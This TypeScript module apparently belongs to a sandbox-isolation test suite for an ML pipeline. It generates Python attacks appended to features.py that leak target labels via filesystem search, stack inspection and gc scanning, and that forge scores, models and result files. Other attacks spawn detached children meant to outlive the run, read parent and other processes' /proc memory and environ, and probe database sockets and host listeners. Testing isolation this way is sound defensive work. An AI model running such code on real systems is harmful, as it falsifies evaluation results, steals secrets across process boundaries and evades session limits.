/**
 * The attacks, as Python appended to a project's src/features.py. Each wraps build_features and
 * acts on its first call; none depends on the platform's file names: files are found by suffix
 * or name under /tmp, /var/tmp, /dev/shm, the home, the working and temporary directories and
 * the project (and its parent) above them. Writes stay under the suite's own directory, so a
 * broken sandbox cannot damage another process's files on the machine.
 *
 * @module
 */

/** Prefix of the lines an attack prints on stderr when an action worked. */
export const MARKER = "sandbox-suite-marker ";

/** Name (prctl PR_SET_NAME) of the child that tries to outlive its run. */
export const LIVE_NAME = "mlp-attack-live";

/** Where an attack may write: paths under `suiteRoot`, the suite's temporary directory. */
function prelude(suiteRoot: string): string {
  return `

import atexit as _atexit, gc as _gc, inspect as _inspect, json as _json, os as _os, socket as _socket
import sys as _sys, time as _time
_honest_build = build_features
_START = _time.time()
_SUITE_ROOT = ${JSON.stringify(suiteRoot)}
_state = {}

def _mark(text):
    print(${JSON.stringify(MARKER)} + text, file=_sys.stderr, flush=True)

def _roots(everywhere=False):
    """Where project code would look: the machine's temporary places, the run's and the project's,
    then (everywhere) the whole filesystem."""
    starts = [_os.getcwd(), _os.environ.get("TMPDIR", "/nonexistent"), _os.path.dirname(_os.path.abspath(__file__))]
    roots = set(starts) | {"/tmp", "/var/tmp", "/dev/shm", _os.path.expanduser("~")}
    for start in starts:
        path = _os.path.abspath(start)
        while path != "/":
            if _os.path.isdir(_os.path.join(path, ".git")):
                roots.update([path, _os.path.dirname(path)])
                break
            path = _os.path.dirname(path)
    return sorted(r for r in roots if _os.path.isdir(r)) + (["/"] if everywhere else [])

def _files(match, everywhere=False, budget=20.0, skip=(".git", ".venv", "node_modules", "__pycache__", "proc", "sys")):
    """Files under the roots whose path satisfies match, for at most budget seconds."""
    seen = set()
    deadline = _time.time() + budget
    for root in _roots(everywhere):
        for folder, dirs, names in _os.walk(root):
            if _time.time() > deadline:
                return
            dirs[:] = [d for d in dirs if d not in skip]
            for name in names:
                path = _os.path.join(folder, name)
                if path not in seen and match(path):
                    seen.add(path)
                    yield path

def _writable(path):
    return _os.path.realpath(path).startswith(_SUITE_ROOT + "/")

def _attack(df, params):
    pass

def build_features(df, params):
    features = _honest_build(df, params)
    if "done" not in _state:
        _state["done"] = True
        try:
            _attack(df, params)
        except Exception as error:
            _mark("attack error " + repr(error))
    leak = _state.get("leak")
    if leak is not None:
        features = features.assign(leak=[float(v) for v in leak][: len(features)])
    return features
`;
}

const LABELS_FRAME = `
def _attack(df, params):
    if TARGET_COLUMN in df.columns:
        _state["leak"] = list(df[TARGET_COLUMN])
        _mark(f"labels: column {TARGET_COLUMN!r} in the frame")
    else:
        _mark(f"labels denied: no column {TARGET_COLUMN!r} in the frame's {len(df.columns)} columns")
`;

const LABELS_FILE = `
def _attack(df, params):
    import pandas as pd
    if "customer_id" not in df.columns:
        _mark("labels denied: no customer_id in the frame to join on")
        return
    tables = list(_files(lambda p: p.endswith((".parquet", ".csv")), everywhere=True))
    readable = []
    for path in tables:
        try:
            table = pd.read_parquet(path) if path.endswith(".parquet") else pd.read_csv(path)
        except Exception:
            continue
        readable.append(path)
        if TARGET_COLUMN in table.columns and "customer_id" in table.columns:
            by_id = dict(zip(table["customer_id"], table[TARGET_COLUMN]))
            if all(i in by_id for i in df["customer_id"]):
                _state["leak"] = [by_id[i] for i in df["customer_id"]]
                _mark("labels: read from " + path)
                return
    _mark(f"labels denied: {len(tables)} tables found ({sorted(set(_os.path.basename(t) for t in tables))[:5]}), "
          f"{len(readable)} readable, none with {TARGET_COLUMN!r}; searched {_roots(True)}")
`;

/** Labels in a frame with the target column, or a 0/1 series or array of the frame's length. */
const FIND_LABELS = `
def _labels_in(value, n):
    import numpy as np, pandas as pd
    if isinstance(value, pd.DataFrame) and TARGET_COLUMN in value.columns and len(value) == n:
        return list(value[TARGET_COLUMN])
    if isinstance(value, (pd.Series, np.ndarray)) and getattr(value, "ndim", 1) == 1 and len(value) == n:
        try:
            numbers = np.asarray(value, dtype=float)
        except Exception:
            return None
        if set(np.unique(numbers).tolist()) == {0.0, 1.0} and 0.005 < float(numbers.mean()) < 0.3:
            return list(numbers)
    return None
`;

const LABELS_INSPECT = FIND_LABELS + `
def _attack(df, params):
    for info in _inspect.stack():
        for value in list(info.frame.f_locals.values()) + list(info.frame.f_globals.values()):
            found = _labels_in(value, len(df))
            if found is not None:
                _state["leak"] = found
                _mark(f"labels: found in a frame of {info.function}()")
                return
    _mark(f"labels denied: none in the locals or globals of {len(_inspect.stack())} frames")
`;

const LABELS_GC = FIND_LABELS + `
def _attack(df, params):
    for value in _gc.get_objects():
        if value is df:
            continue
        found = _labels_in(value, len(df))
        if found is not None:
            _state["leak"] = found
            _mark("labels: found in a " + type(value).__name__)
            return
    _mark(f"labels denied: none among {len(_gc.get_objects())} objects")
`;

/**
 * Rewrites the fresh prediction, model and result files it finds under the suite's directory:
 * scores := labels (or 1 - score without labels), models := a constant DummyClassifier,
 * result.json rows := 999999.
 */
const TAMPER = `
def _fresh(path):
    try:
        return _os.path.getmtime(path) >= _START - 1
    except OSError:
        return False

def _rewrite_scores():
    import pandas as pd
    def wanted(path):
        name = _os.path.basename(path).lower()
        return _writable(path) and _fresh(path) and name.endswith((".parquet", ".csv")) and (
            "oof" in name or "pred" in name or "score" in name)
    for path in list(_files(wanted)):
        try:
            table = pd.read_parquet(path) if path.endswith(".parquet") else pd.read_csv(path)
            scores = [c for c in table.columns if any(k in str(c).lower() for k in ("score", "pred", "proba"))]
            labels = [c for c in table.columns if str(c).lower() in ("y_true", "label", "target", TARGET_COLUMN)]
            for column in scores:
                table[column] = table[labels[0]].astype(float) if labels else 1.0 - table[column]
            if scores:
                table.to_parquet(path, index=False) if path.endswith(".parquet") else table.to_csv(path, index=False)
                _mark("tamper: rewrote scores in " + path)
        except Exception as error:
            _mark(f"tamper denied: rewrite of {path}: {error!r}")

def _swap_models():
    import pickle
    from sklearn.dummy import DummyClassifier
    dummy = DummyClassifier(strategy="constant", constant=0).fit([[0], [1]], [0, 1])
    def wanted(path):
        name = _os.path.basename(path)
        return _writable(path) and name in ("model.pkl", "model.skops", "estimator.skops", "model.joblib", "MLmodel")
    for path in list(_files(wanted)):
        try:
            target = _os.path.join(_os.path.dirname(path), "model.pkl") if path.endswith("MLmodel") else path
            with open(target, "wb") as handle:
                pickle.dump(dummy, handle)
            _mark("tamper: swapped the model at " + target)
        except Exception as error:
            _mark(f"tamper denied: swap of {path}: {error!r}")

def _forge_results():
    def wanted(path):
        return _writable(path) and _os.path.basename(path) == "result.json"
    for path in list(_files(wanted)):
        try:
            record = _json.load(open(path))
            record["rows"] = 999999
            open(path, "w").write(_json.dumps(record))
            _mark("tamper: forged rows in " + path)
        except Exception as error:
            _mark(f"tamper denied: forging {path}: {error!r}")

def _tamper():
    _rewrite_scores()
    _swap_models()
    _forge_results()

def _at_exit(*actions):
    def run():
        _mark(f"tamper: at exit, pid {_os.getpid()}")
        for action in actions:
            action()
    _atexit.register(run)
    _mark("tamper denied: nothing yet (registered at exit)")
`;

const SCORES_AND_RESULT_ATEXIT = TAMPER + `
def _attack(df, params):
    _at_exit(_rewrite_scores, _forge_results)
`;

const MODEL_ATEXIT = TAMPER + `
def _attack(df, params):
    _at_exit(_swap_models)
`;

/** A setsid double-forked child: the grandchild runs body, then exits without cleanup. */
function detached(body: string): string {
  return `
def _detach(body):
    if _os.fork() != 0:
        return
    try:
        _os.setsid()
        if _os.fork() != 0:
            _os._exit(0)
        body()
    finally:
        _os._exit(0)
` + body;
}

const DELAYED_CHILD = TAMPER + detached(`
def _later():
    for pause in (3, 5, 10):
        _time.sleep(pause)
        _mark(f"tamper: child {_os.getpid()} awake after {pause} s")
        _tamper()

def _attack(df, params):
    _detach(_later)
    _mark("tamper denied: nothing yet (child forked)")
`);

const PATCH_ESTIMATOR = `
def _constant_proba(self, X):
    import numpy as np
    return np.tile([0.5, 0.5], (len(X), 1))

def _patch_everything():
    """Makes every build_model return, and every estimator class have, a constant predict_proba."""
    for module in list(_sys.modules.values()):
        honest = getattr(module, "build_model", None)
        if callable(honest) and not getattr(honest, "_patched", False):
            def patched(*args, _honest=honest, **kwargs):
                # Picklable state only, so that it survives being sent to another process: a
                # learning rate of 0 makes a gradient-boosted model score every row the same.
                estimator = _honest(*args, **kwargs)
                if "learning_rate" in estimator.get_params():
                    estimator.set_params(learning_rate=0.0)
                _mark(f"patch: build_model returned a {type(estimator).__name__} with learning_rate 0")
                return estimator
            patched._patched = True
            module.build_model = patched
        for name in ("XGBClassifier", "LGBMClassifier", "LogisticRegression", "RandomForestClassifier", "Pipeline"):
            klass = getattr(module, name, None)
            if isinstance(klass, type):
                try:
                    klass.predict_proba = _constant_proba
                except Exception:
                    pass

try:
    import model as _model_module  # noqa: F401 (so that its build_model is patched now)
except Exception:
    pass
_patch_everything()

def _attack(df, params):
    _patch_everything()
    patched = [n for n, m in list(_sys.modules.items()) if getattr(getattr(m, "build_model", None), "_patched", False)]
    _mark(f"patch denied: nothing yet (build_model patched in {patched} of pid {_os.getpid()})")
`;

/** Where the host-side attacks aim (paths and ports the suite set up, or the machine's own). */
export interface Targets {
  /** The suite's directory: the only place an attack writes. */
  suiteRoot: string;
  /** A file the suite planted in the host's /dev/shm, and its secret content. */
  planted: string;
  secret: string;
  /** A /dev/shm path the attack writes to (the suite checks the host's afterwards). */
  written: string;
  /** A Unix listener and a TCP port the suite listens on. */
  unixListener: string;
  tcpPort: number;
  /** The machine's PostgreSQL and MariaDB Unix sockets. */
  postgresSocket: string;
  mariadbSocket: string;
}

/** Every exfiltration attack at once: each prints its own marker, so the evidence stays separable. */
function exfiltration(t: Targets): string {
  return detached(`
def _try(name, action):
    try:
        result = action()
        _mark(name + (": " + result if result else " denied: nothing read"))
    except Exception as error:
        _mark(f"{name} denied: {error!r}")

def _parent_memory():
    pid = _os.getppid()
    with open(f"/proc/{pid}/maps") as maps:
        start, end = [int(x, 16) for x in maps.readline().split()[0].split("-")]
    with open(f"/proc/{pid}/mem", "rb") as mem:
        mem.seek(start)
        data = mem.read(min(4096, end - start))
    return f"read {len(data)} bytes of /proc/{pid}/mem"

def _parent_environ():
    pid = _os.getppid()
    data = open(f"/proc/{pid}/environ", "rb").read()
    return f"read {len(data)} bytes of /proc/{pid}/environ" if data else None

def _other_memory():
    for pid in [p for p in _os.listdir("/proc") if p.isdigit() and int(p) not in (_os.getpid(), _os.getppid())]:
        try:
            with open(f"/proc/{pid}/mem", "rb") as mem:
                with open(f"/proc/{pid}/maps") as maps:
                    mem.seek(int(maps.readline().split("-")[0], 16))
                if mem.read(16):
                    return f"read /proc/{pid}/mem ({open(f'/proc/{pid}/comm').read().strip()})"
        except Exception:
            continue
    return None

def _live():
    import ctypes
    ctypes.CDLL(None).prctl(15, ${JSON.stringify(LIVE_NAME)}.encode(), 0, 0, 0)
    _mark(f"live child denied: nothing yet (pid {_os.getpid()} is named {open('/proc/self/comm').read().strip()!r})")
    _time.sleep(120)

def _unix(path):
    with _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM) as client:
        client.settimeout(3)
        client.connect(path)
        client.sendall(b"rows")
    return "connected to " + path

def _tcp(port):
    with _socket.create_connection(("127.0.0.1", port), timeout=3) as client:
        client.sendall(b"rows")
    return f"connected to 127.0.0.1:{port}"

def _write_shm():
    open(${JSON.stringify(t.written)}, "w").write("rows")
    return "wrote " + ${JSON.stringify(t.written)} + " (as seen inside)"

def _attack(df, params):
    _try("parent mem", _parent_memory)
    _try("parent environ", _parent_environ)
    _try("other mem", _other_memory)
    _detach(_live)
    _try("shm write", _write_shm)
    _try("shm read", lambda: "read " + open(${JSON.stringify(t.planted)}).read())
    _try("postgres socket", lambda: _unix(${JSON.stringify(t.postgresSocket)}))
    _try("mariadb socket", lambda: _unix(${JSON.stringify(t.mariadbSocket)}))
    _try("host unix listener", lambda: _unix(${JSON.stringify(t.unixListener)}))
    _try("postgres tcp", lambda: _tcp(5432))
    _try("host tcp listener", lambda: _tcp(${t.tcpPort}))
`);
}

/** The features.py appendix of each run of the suite, by run name. */
export function attackRuns(t: Targets): Record<string, string> {
  const with_ = (body: string) => prelude(t.suiteRoot) + body;
  return {
    honest: "",
    labelsFrame: with_(LABELS_FRAME),
    labelsFile: with_(LABELS_FILE),
    labelsInspect: with_(LABELS_INSPECT),
    labelsGc: with_(LABELS_GC),
    scoresAndResultAtexit: with_(SCORES_AND_RESULT_ATEXIT),
    delayedChild: with_(DELAYED_CHILD),
    modelAtexit: with_(MODEL_ATEXIT),
    patchEstimator: with_(PATCH_ESTIMATOR),
    exfiltration: with_(exfiltration(t)),
  };
}
